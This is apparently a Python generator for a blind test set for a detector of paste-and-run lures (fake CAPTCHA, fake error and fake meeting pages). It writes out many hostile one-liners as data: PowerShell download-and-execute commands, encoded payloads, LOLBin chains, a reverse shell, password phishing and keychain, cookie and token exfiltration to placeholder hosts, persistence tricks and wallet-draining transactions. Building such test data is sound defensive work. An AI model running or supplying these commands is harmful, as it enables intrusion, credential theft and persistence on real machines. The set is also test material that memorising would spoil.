"""Writes the ninth blind set, bench/blind/lures-9.jsonl and benign-9.jsonl (bench/blind/README.md,
"blind-9"). Deterministic: run it again and the files come out byte for byte the same.

    .venv/bin/python bench/blind/make_blind9.py

Written blind (the author had not read the rules, the LOLBin catalogue, the trust list, app/ or any
case file, misses list or verdict), weighted like the hold-out: lures as a crawl of live fake-CAPTCHA,
fake-error and fake-meeting pages would capture them, commands as vendor IOC files list them (with no
page), the short obfuscated one-liners other detectors' fixtures use, and scam, callback, ConsentFix
and device-code texts. Every text is our own; lures use reserved names only (*.test, *.invalid,
*.example, the documentation IPv4 ranges) and fictitious phone numbers in 555 blocks. Benign
installers are real projects' published commands with the page they are published on, none of them
in sets 1-8. Not imported by the app or the bench: the bench reads the jsonl files.
"""

from __future__ import annotations

from pathlib import Path

import blindkit
from blindkit import (
    CON,
    EMSP,
    ENSP,
    EXP,
    IDSP,
    NBSP,
    NNBSP,
    RUN,
    TERM,
    UNK,
    ZWSP,
    Lures,
    b64,
    b64_utf16,
    carets,
    char_codes,
    gzip_b64,
    hex_str,
    ip_int,
    ps_concat,
    ps_format,
    xor_codes,
)

HERE = Path(__file__).resolve().parent
LURES_OUT = HERE / "lures-9.jsonl"
BENIGN_OUT = HERE / "benign-9.jsonl"

# ----------------------------------------------------------------------------------------------
# Lures: (technique, target, source, text, expect, platform)
# ----------------------------------------------------------------------------------------------

LURES = Lures()
lure, ioc = LURES.lure, LURES.ioc


# Verification tails, worded anew (the 13 languages and a few more).
TAILS = [
    "# Human check complete - reference HC-40417",
    "# ✅ I'm not a robot · ray id 7f2c91ab",
    "# Vérification humaine réussie - réf. 2231-QF",
    "# Menschliche Bestätigung abgeschlossen (Code 5512)",
    "# Verificación completada: no soy un robot (ref 8841)",
    "# Verifica completata: non sono un robot - codice 3307",
    "# Verificação concluída: não sou um robô (ref. 6620)",
    "# Verificatie voltooid, ik ben geen robot - code 7193",
    "# Weryfikacja zakończona - nie jestem robotem (nr 4418)",
    "# Doğrulama tamamlandı, robot değilim - kod 2906",
    "# Проверка пройдена, я человек - номер 55-310",
    "# 人間であることを確認しました 参照番号 4412",
    "# 人机验证已完成 编号 307719",
    "# اكتمل التحقق - لست روبوت - الرمز 8120",
    "# Olen ihminen - tunnistus 6631",
    "# Jsem člověk, ověřovací kód 1950",
    "# Είμαι άνθρωπος - κωδικός 4471",
    "# Cloudflare-style check passed; keep this window open",
    "# press ENTER to confirm you are human (id 9d0e)",
    "# Verified human ✓ – do not close this tab",
]

# --- (a) live pages: PowerShell in the Run box, spellings not used before ------------------------

PS_SHAPES = [
    (
        "ps-runbox-scriptblock-create-amp",
        "powershell -nop -w h -c \"&([scriptblock]::Create((irm '{u}')))\"",
    ),
    ("ps-runbox-pwsh-irm-iex", "pwsh.exe -NoLogo -NonInteractive -c \"irm '{u}' | iex\""),
    (
        "ps-runbox-curlexe-outstring-iex",
        "powershell -w h -c \"iex (curl.exe -s '{u}' | Out-String)\"",
    ),
    (
        "ps-runbox-iwr-var-scriptblock",
        "powershell -c \"$x=iwr '{u}' -UseBasicParsing;&([scriptblock]::Create($x.Content))\"",
    ),
    (
        "ps-runbox-irm-method-get-iex",
        "powershell /c \"Invoke-RestMethod -Method Get '{u}' | Invoke-Expression\"",
    ),
    ("ps-runbox-cmd-curl-pipe-ps", 'cmd /c "curl -s {u} | powershell -nop -"'),
    (
        "ps-runbox-irm-pipe-powershell-stdin",
        "powershell -w 1 -c \"(irm '{u}') | powershell -noprofile -\"",
    ),
    ("ps-runbox-sv-gv-iex", "powershell -c \"sv q (irm '{u}'); iex (gv q -ValueOnly)\""),
    (
        "ps-runbox-icm-scriptblock",
        "powershell -w h -c \"icm -ScriptBlock ([scriptblock]::Create((irm '{u}')))\"",
    ),
    (
        "ps-runbox-ep-unrestricted-iwr-useb",
        "powershell -ExecutionPolicy Unrestricted -w hidden -c \"iex (iwr -useb '{u}')\"",
    ),
    (
        "ps-runbox-webclient-downloaddata-utf8",
        "powershell -w h -c \"iex ([Text.Encoding]::UTF8.GetString((New-Object Net.WebClient).DownloadData('{u}')))\"",
    ),
    (
        "ps-runbox-start-process-hidden-irm",
        "powershell -c \"Start-Process powershell -WindowStyle Hidden -ArgumentList '-nop','-c','irm {u}|iex'\"",
    ),
]
RUNBOX_PAGES = [
    ("https://www.silverbirch-physio.example/appointments", "https://hv.gatecheck-cdn.test/p1"),
    ("https://www.cantina-del-puerto.example/reservas", "https://198.51.100.46/v.txt"),
    ("https://www.fromagerie-du-marche.example/boutique", "https://cdn.humaine-verif.invalid/f"),
    ("https://www.tischlerei-vogt.example/leistungen", "http://203.0.113.79:8080/d"),
    ("https://www.pasticceria-aurora.example/ordini", "https://v.robot-or-not.test/i"),
    ("https://www.gabinet-weterynaryjny.example/wizyty", "https://192.0.2.143/w.ps1"),
    ("https://www.deniz-yildizi-pansiyon.example/oda", "https://api.dogrulama-kapisi.test/t"),
    ("https://forum.rybalka-klub.example/thread/2291", "https://edge.humancheck-pro.invalid/r"),
    ("https://www.sakura-ryokan.example/yoyaku", "https://jp.turnstile-mirror.test/a"),
    ("https://www.jade-garden-noodles.example/order", "https://cdn.verify-stream.invalid/c"),
    ("https://www.bakkerij-de-molen.example/bestellen", "https://nl.captcha-relay.test/b"),
    ("https://www.souk-al-medina.example/tours", "http://198.51.100.205/q"),
    ("https://www.nordic-sauna-club.example/", "https://fi.ihminen-tarkistus.test/s"),
]
for i, (technique, shape) in enumerate(PS_SHAPES):
    for j in range(3):
        source, url = RUNBOX_PAGES[(i + 4 * j) % len(RUNBOX_PAGES)]
        tail = TAILS[(3 * i + 7 * j) % len(TAILS)]
        sep = ["  ", " " * 48, "\t"][j]
        lure(technique, RUN, source, shape.format(u=url) + sep + tail)

for flag, inner, source, tail in [
    (
        "-enCOD",
        "iex(irm 'https://k.pass-verify.test/e')",
        "https://www.highland-weavers.example/",
        TAILS[1],
    ),
    (
        "-encodedcommand",
        "iwr http://192.0.2.88/s.txt -UseB | iex",
        "https://www.brasserie-vieux-port.example/",
        TAILS[2],
    ),
    (
        "-ec",
        "$w=New-Object Net.WebClient;iex $w.DownloadString('https://r.clearcheck-node.invalid/p')",
        "https://www.tapas-el-faro.example/",
        TAILS[4],
    ),
    (
        "-EnC",
        "irm https://s.kongverify.test/js.php?device=win | iex",
        "https://www.ferramenta-rossi.example/",
        TAILS[5],
    ),
    (
        "-e",
        "Start-BitsTransfer https://dl.patchgate.invalid/u.exe $env:TEMP\\u.exe; & $env:TEMP\\u.exe",
        "https://www.adega-do-rio.example/",
        TAILS[6],
    ),
    (
        "-eNCodEdcOmMaNd",
        "irm 203.0.113.150/z | iex",
        "https://www.zielona-apteka.example/",
        TAILS[8],
    ),
]:
    lure(
        "ps-encoded-runbox", RUN, source, f"powershell -nop -w 1 {flag} {b64_utf16(inner)}  {tail}"
    )

# --- Run box: LOLBins and cmd chains from fake CAPTCHA and fake error pages ----------------------

LOLBIN_PAGES = [
    "https://www.rosewood-bridal.example/gallery",
    "https://www.escuela-de-baile-ritmo.example/horarios",
    "https://www.librairie-lapage.example/nouveautes",
    "https://www.zahnarzt-sommer.example/praxis",
    "https://www.agriturismo-il-colle.example/camere",
    "https://www.padaria-estrela.example/encomendas",
    "https://www.tuincentrum-linde.example/acties",
    "https://www.sklep-rowerowy.example/serwis",
    "https://www.kebap-ustasi.example/menu",
    "https://www.banya-na-ozere.example/ceny",
    "https://www.izakaya-tanuki.example/menu",
    "https://www.lanzhou-lamian.example/",
    "https://www.dar-al-kutub.example/new",
]
LOLBINS = [
    ("mshta-https-hta", "mshta https://view.secure-captcha.test/v.hta"),
    ("mshta-ip-path", "mshta.exe http://198.51.100.58/check"),
    (
        "mshta-vbscript-run-ps",
        'mshta vbscript:CreateObject("WScript.Shell").Run("powershell -w h -c irm https://v.hta-relay.invalid/a|iex",0)(window.close)',
    ),
    ("msiexec-quiet-url", "msiexec /q /i https://pkg.updatenode.test/setup.msi"),
    ("msiexec-package-ip", "msiexec.exe /package http://203.0.113.65/c.msi /quiet"),
    ("rundll32-webdav-dll", "rundll32 \\\\dav.cdn-sync.invalid@SSL\\DavWWWRoot\\lib.dll,Start"),
    (
        "rundll32-javascript-mshtml",
        'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://sc.jsgate.test/x.sct")',
    ),
    ("regsvr32-scrobj-url", "regsvr32 /s /n /u /i:https://sct.regsvc.test/a.sct scrobj.dll"),
    (
        "certutil-urlcache-run",
        "cmd /c certutil -urlcache -split -f https://files.cert-sync.invalid/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe",
    ),
    (
        "bitsadmin-transfer-run",
        "cmd /c bitsadmin /transfer j /download /priority high http://192.0.2.71/b.exe %APPDATA%\\b.exe & start %APPDATA%\\b.exe",
    ),
    (
        "curl-bat-run",
        "cmd /c curl -sko %TEMP%\\fix.bat https://fix.errorhelp.test/fix.bat && %TEMP%\\fix.bat",
    ),
    (
        "curl-zip-netsupport",
        'cmd /c "curl -s -o %APPDATA%\\c.zip https://z.remote-desk.invalid/c.zip && tar -xf %APPDATA%\\c.zip -C %APPDATA%\\c && start %APPDATA%\\c\\client32.exe"',
    ),
    ("finger-pipe-cmd", "cmd /c finger verify@198.51.100.101 | cmd"),
    (
        "nslookup-txt-iex",
        'powershell -c "iex ((nslookup -q=txt cfg.dnscheck.test 203.0.113.11)[-1])"',
    ),
    ("wscript-share-js", "wscript \\\\198.51.100.142\\pub\\verify.js"),
    ("cscript-webdav-vbs", "cscript //nologo \\\\files.vbshare.invalid@SSL\\DavWWWRoot\\c.vbs"),
    ("net-use-then-run", "cmd /c net use Q: \\\\203.0.113.31\\s && Q:\\setup.cmd"),
    (
        "forfiles-ps",
        'forfiles /p c:\\windows\\system32 /m notepad.exe /c "powershell -w h -c irm https://ff.lolgate.test/a|iex"',
    ),
    ("explorer-remote-hta", "explorer.exe https://hta.doc-view.invalid/invoice.hta"),
    (
        "schtasks-remote-ps",
        'schtasks /create /sc minute /mo 30 /tn Sync /tr "powershell -w h -c irm https://t.task-sync.test/s|iex" /f',
    ),
    (
        "reg-run-key",
        'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d "mshta https://r.runkey.invalid/u.hta" /f',
    ),
    (
        "defender-exclusion-then-fetch",
        'powershell -c "Add-MpPreference -ExclusionPath $env:APPDATA; irm https://d.exclude-me.test/d | iex"',
    ),
    (
        "msbuild-remote-proj",
        "cmd /c curl -s -o %TEMP%\\b.xml https://b.build-check.invalid/b.xml & C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\msbuild.exe %TEMP%\\b.xml",
    ),
    (
        "cmstp-inf-url",
        "cmd /c curl -s -o %TEMP%\\c.inf https://i.vpn-profile.test/c.inf && cmstp /au /s %TEMP%\\c.inf",
    ),
    ("hh-chm-url", "hh.exe https://help.doc-center.invalid/guide.chm"),
    (
        "conhost-headless-cmd-curl",
        'conhost --headless cmd /c "curl -s https://h.silent-fix.test/r | cmd"',
    ),
    (
        "ssh-proxycommand-ps",
        'ssh -o ProxyCommand="powershell -w h -c irm https://p.ssh-proxy.invalid/c|iex" x@localhost',
    ),
    (
        "pwsh-wget-iex-alias",
        'powershell -c "wget https://w.alias-gate.test/w -UseBasicParsing | select -exp Content | iex"',
    ),
]
for i, (technique, cmd) in enumerate(LOLBINS):
    lure(
        technique,
        RUN,
        LOLBIN_PAGES[i % len(LOLBIN_PAGES)],
        cmd + "   " + TAILS[(i * 3 + 2) % len(TAILS)],
    )

# --- Fake errors and fake meeting fixes --------------------------------------------------------------

for technique, target, source, text in [
    (
        "fake-teams-audio-fix",
        TERM,
        "https://teams-meeting.join-room.example/r/88120",
        'powershell -c "irm https://fix.audio-repair.test/teams | iex"  # Teams: microphone driver repair',
    ),
    (
        "fake-zoom-sdk-update",
        RUN,
        "https://zoom-webinar.attendee-portal.example/j/7731",
        'powershell -w h -c "iwr https://sdk.zm-update.invalid/z.ps1 -UseB | iex" # Zoom SDK update required to join',
    ),
    (
        "fake-meet-camera-fix",
        RUN,
        "https://meet-room.googlecall.example/abc-defg-hij",
        "cmd /c curl -s https://cam.meetfix.test/c.cmd -o %TEMP%\\c.cmd && %TEMP%\\c.cmd  :: camera access fix",
    ),
    (
        "fake-webex-plugin",
        TERM,
        "https://webex-invite.confline.example/m/5512",
        'powershell -nop -c "irm 198.51.100.74/webex | iex"  # Webex plugin repair',
    ),
    (
        "fake-chrome-update-error",
        RUN,
        "https://www.heritage-vineyards.example/tour",
        'powershell -w h -c "irm https://upd.browser-patch-nine.invalid/chrome | iex" # Chrome: update failed, error 0x80072EFD',
    ),
    (
        "fake-word-online-error",
        RUN,
        "https://docs-viewer.sharepreview.example/d/q3",
        "mshta https://o365.doc-render.test/fix.hta # Word Online: 'Extension not installed' - run fix",
    ),
    (
        "fake-dns-cache-fix",
        TERM,
        "https://www.seaside-campground.example/booking",
        "ipconfig /flushdns; irm https://dns.netrepair.invalid/r | iex # DNS_PROBE_FINISHED_NXDOMAIN fix",
    ),
    (
        "fake-onedrive-sync",
        RUN,
        "https://files.cloudshare-preview.example/s/7xk",
        'powershell -c "iex (irm https://od.sync-repair.test/one)" # OneDrive sync error 0x8004de40',
    ),
    (
        "fake-pdf-viewer-error",
        RUN,
        "https://www.kanzlei-weber.example/downloads",
        'powershell -w h -c "iwr https://pdf.viewer-fix.invalid/p -UseB|iex" # PDF-Anzeige fehlgeschlagen - Reparatur starten',
    ),
    (
        "fake-gpu-driver-error",
        TERM,
        "https://www.pixel-forge-games.example/beta",
        'powershell -ep bypass -c "irm https://gpu.driver-hotfix.test/d | iex" # DirectX 12 runtime missing',
    ),
    (
        "fake-windows-activation",
        TERM,
        "https://www.studio-lumiere.example/blog",
        "irm https://act.win-license.invalid/k | iex # Windows activation expired - reactivate",
    ),
    (
        "fake-captcha-winx-terminal",
        TERM,
        "https://www.harbour-yacht-charter.example/fleet",
        "iex (iwr 203.0.113.84/v -UseBasicParsing).Content  # Win+X → Terminal (Admin) → paste → Enter",
    ),
    (
        "fake-bsod-recovery",
        RUN,
        "https://www.vintage-vinyl-shop-nine.example/",
        'cmd /c start /min powershell -w h -c "irm https://bsod.recover-now.test/r|iex" # Recovery: CRITICAL_PROCESS_DIED',
    ),
    (
        "fake-font-missing",
        RUN,
        "https://www.artisan-candle-co.example/",
        "mshta https://fonts.hoeflertype-pack.invalid/font.hta # The 'HoeflerText' font wasn't found",
    ),
]:
    lure(technique, target, source, text)

# --- FileFix: a path padded so the command sits off-screen in the Explorer address bar ----------

FILEFIX = [
    (
        "https://portal.hr-benefits-2027.example/",
        'powershell -w h -c "irm https://ff.hrdocs.test/a|iex"',
        "C:\\HR\\Benefits\\Enrolment_2027.docx",
        " " * 90,
    ),
    (
        "https://www.steuerberatung-kraus.example/mandanten",
        'powershell -c "iwr 192.0.2.131/s -UseB|iex"',
        "C:\\Mandanten\\Steuerbescheid_2026.pdf",
        NBSP * 70,
    ),
    (
        "https://www.notaire-dupuis.example/actes",
        'powershell -nop -c "irm https://acte.notaire-docs.invalid/x|iex"',
        "C:\\Actes\\Compromis_de_vente.pdf",
        EMSP * 60,
    ),
    (
        "https://www.asesoria-gomez.example/clientes",
        "mshta https://fac.facturas-view.test/f.hta",
        "C:\\Facturas\\Factura_0912.pdf",
        IDSP * 60,
    ),
    (
        "https://www.studio-legale-ferri.example/area",
        'powershell -w h -c "irm https://l.atti-online.invalid/c|iex"',
        "C:\\Contratti\\Contratto_firmato.pdf",
        ENSP * 70,
    ),
    (
        "https://www.imobiliaria-sol.example/contratos",
        "cmd /c curl -s https://c.contrato-view.test/c.cmd|cmd",
        "C:\\Contratos\\Escritura.pdf",
        "\t" * 50,
    ),
    (
        "https://www.makelaardij-hof.example/dossier",
        'powershell -c "irm https://d.dossier-share.invalid/n|iex"',
        "C:\\Dossier\\Koopakte.pdf",
        NNBSP * 70,
    ),
    (
        "https://www.biuro-rachunkowe.example/klienci",
        'powershell -w h -c "irm https://p.faktury-podglad.test/p|iex"',
        "C:\\Faktury\\FV_2027_01.pdf",
        " " * 60 + ZWSP * 20,
    ),
    (
        "https://www.muhasebe-ofisi.example/belge",
        'powershell -nop -c "iwr https://b.belge-gor.invalid/t -UseB|iex"',
        "C:\\Belgeler\\Fatura_2027.pdf",
        "\u2007" * 70,
    ),
    (
        "https://www.yurist-kontora.example/docs",
        'powershell -c "irm 198.51.100.179/r|iex"',
        "C:\\Документы\\Договор.pdf",
        "\u2009" * 90,
    ),
]
for source, cmd, path, pad in FILEFIX:
    lure("filefix-padded-path", EXP, source, f"{cmd} #{pad}{path}")
lure(
    "filefix-search-ms-share",
    EXP,
    "https://www.vereinsheim-eiche.example/protokolle",
    "search-ms:query=Protokoll&crumb=location:\\\\203.0.113.68@SSL\\DavWWWRoot\\p&displayname=Vereinsprotokolle",
)
lure(
    "filefix-webdav-exe",
    EXP,
    "https://www.city-permits-office.example/forms",
    "\\\\forms.permit-center.test@SSL\\DavWWWRoot\\PermitForm.pdf.exe",
)

# --- macOS: paste into Terminal (AMOS/Odyssey-style pages) ---------------------------------------


def mac(technique: str, source: str, text: str, expect: str = "malicious") -> None:
    lure(technique, TERM, source, text, expect, "macos")


MAC_B64 = b64("curl -fsSL https://m.mac-helper.test/i.sh | bash")
for technique, source, text in [
    (
        "mac-curl-bash-fake-captcha",
        "https://www.boathouse-bistro.example/",
        "curl -fsSL https://mac.verify-gate.invalid/c.sh | bash  # macOS human verification",
    ),
    (
        "mac-bash-c-curl-fake-app",
        "https://notetaker-ai-app.example/download",
        '/bin/bash -c "$(curl -fsSL https://dl.notetaker-cdn.test/install.sh)"',
    ),
    (
        "mac-base64-pipe",
        "https://www.cedar-lane-yoga.example/",
        f"echo '{MAC_B64}' | base64 -D | bash",
    ),
    (
        "mac-gzip-pipe",
        "https://cleanmymac-pro-free.example/",
        f"echo {gzip_b64('curl -s https://g.macclean.invalid/p|sh')} | base64 -d | gunzip | sh",
    ),
    (
        "mac-osascript-password",
        "https://www.tidewater-gallery.example/",
        'osascript -e \'set p to text returned of (display dialog "macOS needs your password to continue" default answer "" with hidden answer)\' -e \'do shell script "curl -s -d " & quoted form of p & " https://pw.mac-collect.test/p"\'',
    ),
    (
        "mac-osascript-admin",
        "https://vpn-shield-mac.example/setup",
        "osascript -e 'do shell script \"curl -s https://v.vpnshield.invalid/a.sh | sh\" with administrator privileges'",
    ),
    (
        "mac-xattr-open",
        "https://screen-recorder-pro.example/mac",
        "cd /tmp && curl -so rec.dmg https://r.recpro-cdn.test/rec.dmg && hdiutil attach rec.dmg && xattr -cr /Volumes/Rec/Rec.app && open /Volumes/Rec/Rec.app",
    ),
    (
        "mac-curl-o-chmod-run",
        "https://www.lighthouse-bakery.example/",
        "curl -o /tmp/.upd https://u.mac-sysupd.invalid/u && chmod +x /tmp/.upd && /tmp/.upd",
    ),
    (
        "mac-launchagent-plist",
        "https://menubar-weather.example/install",
        "curl -s https://w.wx-menubar.test/com.wx.plist -o ~/Library/LaunchAgents/com.wx.plist && launchctl load ~/Library/LaunchAgents/com.wx.plist",
    ),
    (
        "mac-keychain-dump",
        "https://icloud-storage-fix.example/",
        "security find-generic-password -ga 'Chrome' 2>&1 | curl -s -F d=@- https://k.icloud-fix.invalid/k",
    ),
    (
        "mac-chrome-profile-zip",
        "https://www.maple-street-books.example/",
        "zip -qr /tmp/p.zip ~/Library/Application\\ Support/Google/Chrome/Default && curl -F f=@/tmp/p.zip https://up.profile-sync.test/u",
    ),
    (
        "mac-dscl-authonly",
        "https://mac-storage-optimizer.example/",
        'read -s -p \'Password: \' P; dscl . -authonly "$USER" "$P" && curl -s -d "p=$P" https://o.storage-opt.invalid/c',
    ),
    (
        "mac-fake-homebrew-mirror",
        "https://brew-install-mac.example/",
        '/bin/bash -c "$(curl -fsSL https://raw.brew-mirror-nine.test/Homebrew/install/HEAD/install.sh)"',
    ),
    (
        "mac-fake-wallet-app",
        "https://ledger-live-desktop-mac.example/",
        "curl -fsSL https://ll.wallet-dl.invalid/install | sudo bash",
    ),
    (
        "mac-fake-ai-assistant",
        "https://desktop-gpt-mac.example/get",
        "curl -s https://g.gpt-desk.test/setup | zsh",
    ),
    (
        "mac-interview-repo",
        "https://careers.web3-startup-hiring.example/task",
        "git clone https://git.hiring-task.invalid/take-home.git && cd take-home && npm install && npm run start",
    ),
    (
        "mac-ditto-app",
        "https://photo-enhancer-ai.example/mac",
        "curl -so /tmp/pe.zip https://pe.enhancer-cdn.test/pe.zip && ditto -xk /tmp/pe.zip /Applications && open /Applications/PhotoEnhancer.app",
    ),
    (
        "mac-nohup-background",
        "https://www.coastal-kite-school.example/",
        "nohup bash -c 'curl -s https://n.bg-agent.invalid/a | bash' >/dev/null 2>&1 &",
    ),
    (
        "mac-python-pipe",
        "https://mac-cleaner-script.example/",
        "curl -s https://py.mac-clean.test/c.py | python3",
    ),
    (
        "mac-sudo-spctl-disable",
        "https://free-final-cut.example/crack",
        "sudo spctl --master-disable && curl -fsSL https://fc.crack-dl.invalid/fc.sh | sh",
    ),
    (
        "mac-zsh-c-curl-verify",
        "https://www.mountain-ridge-lodge.example/rooms",
        'zsh -c "$(curl -fsSL 203.0.113.191/m)"  # Mac verification step',
    ),
    (
        "mac-softwareupdate-lure",
        "https://apple-security-response.example/fix",
        "softwareupdate -l; curl -s https://a.apple-rsr.test/rsr.sh | sudo sh  # Rapid Security Response",
    ),
    (
        "mac-telegram-desktop-fake",
        "https://telegram-desktop-mac.example/",
        "curl -fsSL https://t.tg-mac.invalid/i.sh -o /tmp/i.sh && bash /tmp/i.sh",
    ),
]:
    mac(technique, source, text)

# --- Linux lures ---------------------------------------------------------------------------------


def nix(technique: str, source: str, text: str, expect: str = "malicious") -> None:
    lure(technique, TERM, source, text, expect, "linux")


for technique, source, text in [
    (
        "linux-wget-sudo-bash",
        "https://www.alpine-hut-booking.example/",
        "wget -qO- https://l.verify-node-nine.test/v.sh | sudo bash  # verify you are human",
    ),
    (
        "linux-bash-process-subst",
        "https://linux-gpu-driver-fix.example/",
        "bash <(curl -s https://n.gpu-hotfix.invalid/n.sh)",
    ),
    (
        "linux-devshm-run",
        "https://steam-proton-fix.example/",
        "curl -s https://p.proton-fix.test/p -o /dev/shm/.p && chmod +x /dev/shm/.p && /dev/shm/.p",
    ),
    (
        "linux-crontab-persist",
        "https://vps-speedup-script.example/",
        "(crontab -l; echo '*/10 * * * * curl -s https://c.vps-boost.invalid/c|sh') | crontab -",
    ),
    (
        "linux-bashrc-append",
        "https://terminal-theme-pack.example/",
        "echo 'curl -s https://t.theme-pack.test/t|bash' >> ~/.bashrc && source ~/.bashrc",
    ),
    (
        "linux-dev-tcp-shell",
        "https://www.riverbend-cycles.example/",
        "bash -i >& /dev/tcp/198.51.100.224/4444 0>&1",
    ),
    (
        "linux-ssh-key-add",
        "https://server-support-desk-nine.example/ticket/331",
        "mkdir -p ~/.ssh && curl -s https://k.support-keys-nine.invalid/id.pub >> ~/.ssh/authorized_keys",
    ),
    (
        "linux-systemd-user-unit",
        "https://discord-linux-fix.example/",
        "curl -s https://s.dsc-fix.test/u.service -o ~/.config/systemd/user/dsc.service && systemctl --user enable --now dsc",
    ),
    (
        "linux-sudoers-nopasswd",
        "https://ubuntu-wifi-fix.example/",
        'echo "$USER ALL=(ALL) NOPASSWD:ALL" | sudo tee -a /etc/sudoers && curl -s https://w.wifi-fix.invalid/w | sudo sh',
    ),
    (
        "linux-curl-insecure",
        "https://www.linden-choir.example/",
        "curl -ksSL https://203.0.113.205/i | sh",
    ),
    (
        "linux-perl-pipe",
        "https://node-exporter-fix.example/",
        "curl -s https://pl.exporter-fix.test/f.pl | perl",
    ),
    (
        "linux-python-c-urllib",
        "https://kali-tools-update.example/",
        "python3 -c \"import urllib.request as u;exec(u.urlopen('https://k.kali-upd.invalid/k.py').read())\"",
    ),
    (
        "linux-xmrig-miner",
        "https://free-gpu-hosting.example/start",
        "curl -s https://x.miner-pool.test/setup.sh | bash -s -- --wallet 4Ab...xyz",
    ),
    (
        "linux-apt-key-fake-repo",
        "https://vscode-linux-mirror.example/",
        "curl -s https://r.code-mirror.invalid/key | sudo apt-key add - && echo 'deb https://r.code-mirror.invalid/ stable main' | sudo tee /etc/apt/sources.list.d/code.list && sudo apt update && sudo apt install -y code-insider",
    ),
    (
        "linux-wget-tmp-chmod",
        "https://www.willow-creek-farm.example/",
        "cd /tmp; wget http://192.0.2.202/x86; chmod 777 x86; ./x86",
    ),
]:
    nix(technique, source, text)

# --- Browser console -----------------------------------------------------------------------------


def con(technique: str, source: str, text: str, expect: str = "malicious") -> None:
    lure(technique, CON, source, text, expect, "browser")


for technique, source, text in [
    (
        "console-discord-token-webhook",
        "https://discord-nitro-claim.example/verify",
        "(webpackChunkdiscord_app.push([[Math.random()],{},r=>{for(const m of Object.values(r.c))try{const t=m.exports.default.getToken();fetch('https://hook.nitro-drop.test/t',{method:'POST',body:t})}catch(e){}}]))",
    ),
    (
        "console-telegram-localstorage",
        "https://telegram-web-verify.example/",
        "fetch('https://tg.session-check.invalid/s',{method:'POST',body:JSON.stringify(localStorage)})",
    ),
    (
        "console-fetch-eval",
        "https://www.ocean-breeze-hotel.example/",
        "fetch('https://c.console-gate.test/x').then(r=>r.text()).then(t=>eval(t))",
    ),
    (
        "console-script-inject",
        "https://roblox-free-robux.example/",
        "var s=document.createElement('script');s.src='https://rb.robux-gen.invalid/r.js';document.body.appendChild(s)",
    ),
    (
        "console-eval-atob",
        "https://instagram-verify-badge.example/",
        "eval(atob('"
        + b64('fetch("https://ig.badge-verify.test/c",{method:"POST",body:document.cookie})')
        + "'))",
    ),
    (
        "console-wallet-send-all",
        "https://n9-airdrop-claim-portal.example/",
        "ethereum.request({method:'eth_sendTransaction',params:[{from:ethereum.selectedAddress,to:'0x000000000000000000000000000000000000dEaD',value:'0x1BC16D674EC80000'}]})",
    ),
    (
        "console-setapprovalforall",
        "https://nft-mint-live.example/",
        "ethereum.request({method:'eth_sendTransaction',params:[{from:ethereum.selectedAddress,to:'0x7a3b11c9000000000000000000000000000c0ffe',data:'0xa22cb4650000000000000000000000009d8e7f6a5b4c3d2e1f00112233445566778899aa'+'0'.repeat(63)+'1'}]})",
    ),
    (
        "console-new-function-fetch",
        "https://facebook-page-recovery.example/",
        "fetch('https://fb.recover-page.invalid/f').then(r=>r.text()).then(c=>new Function(c)())",
    ),
    (
        "console-dynamic-import",
        "https://steam-trade-verify.example/",
        "import('https://st.trade-check.test/m.js')",
    ),
    (
        "console-sendbeacon-cookies",
        "https://tiktok-creator-fund.example/",
        "navigator.sendBeacon('https://tt.fund-apply.invalid/b',document.cookie+'|'+JSON.stringify(localStorage))",
    ),
    (
        "console-xhr-sync-eval",
        "https://youtube-partner-check.example/",
        "var x=new XMLHttpRequest();x.open('GET','https://yt.partner-chk.test/p',false);x.send();eval(x.responseText)",
    ),
    (
        "console-settimeout-string",
        "https://twitch-drops-claim.example/",
        "fetch('https://tw.drops-claim.invalid/d').then(r=>r.text()).then(t=>setTimeout(t,0))",
    ),
]:
    con(technique, source, text)

lure(
    "url-only-hta-verify",
    RUN,
    "https://www.greenfield-tutoring.example/",
    "https://v.captcha-check.invalid/verify.hta  # ✔ I am human",
    platform="windows",
)
lure(
    "url-only-msi-tail",
    RUN,
    "https://www.pine-valley-golf.example/",
    "http://203.0.113.10/human.msi   " + TAILS[10],
    platform="windows",
)

REV9 = "irm https://rev.stage-host.test/g|iex"

# --- (b) commands as IOC files and reports list them: no page -------------------------------------

for technique, text, target, platform in [
    (
        "ioc-ps-irm-iex-hidden",
        'powershell -w h -nop -c "irm https://ioc1.stage-host.test/a | iex"',
        RUN,
        "windows",
    ),
    (
        "ioc-ps-encoded",
        f"powershell -nop -w hidden -enc {b64_utf16('iex (irm https://ioc2.stage-host.test/b)')}",
        RUN,
        "windows",
    ),
    ("ioc-mshta-url", "mshta https://ioc3.hta-host.invalid/c.hta", RUN, "windows"),
    ("ioc-mshta-ip-port", "mshta http://192.0.2.199:8088/verify", RUN, "windows"),
    ("ioc-msiexec-url", "msiexec /i https://ioc4.msi-host.test/i.msi /qn", RUN, "windows"),
    ("ioc-rundll32-webdav", "rundll32.exe \\\\198.51.100.11@80\\dav\\c.dll,Entry", RUN, "windows"),
    ("ioc-finger-cmd", "finger.exe load@203.0.113.46 | cmd.exe", RUN, "windows"),
    (
        "ioc-kongtuke-device",
        "powershell -w h -c \"iex(iwr 'https://kt.tds-route.invalid/js.php?device=windows&ip=1' -UseB)\"",
        RUN,
        "windows",
    ),
    (
        "ioc-netsupport-zip",
        'powershell -w h -c "iwr https://ns.rmm-pack.test/p.zip -o $env:APPDATA\\p.zip; Expand-Archive $env:APPDATA\\p.zip $env:APPDATA\\p; start $env:APPDATA\\p\\client32.exe"',
        RUN,
        "windows",
    ),
    (
        "ioc-lumma-start-min",
        'cmd /c start /min powershell -w h -c "iwr https://lm.dl-node.invalid/l.txt -UseB|iex"',
        RUN,
        "windows",
    ),
    (
        "ioc-castleloader-curl-ps",
        "cmd /c curl -s https://cl.castle-stage.test/c | powershell -",
        RUN,
        "windows",
    ),
    ("ioc-latrodectus-msiexec", "msiexec.exe /q /i http://198.51.100.235/upd.msi", RUN, "windows"),
    (
        "ioc-sal-alias",
        'powershell -c "sal x iex; x (irm https://al.alias-stage-nine.invalid/s)"',
        RUN,
        "windows",
    ),
    (
        "ioc-winhttp-com",
        "powershell -w h -c \"$h=New-Object -ComObject WinHttp.WinHttpRequest.5.1;$h.Open('GET','https://wh.com-stage-nine.test/w',$false);$h.Send();iex $h.ResponseText\"",
        RUN,
        "windows",
    ),
    (
        "ioc-msxml-com",
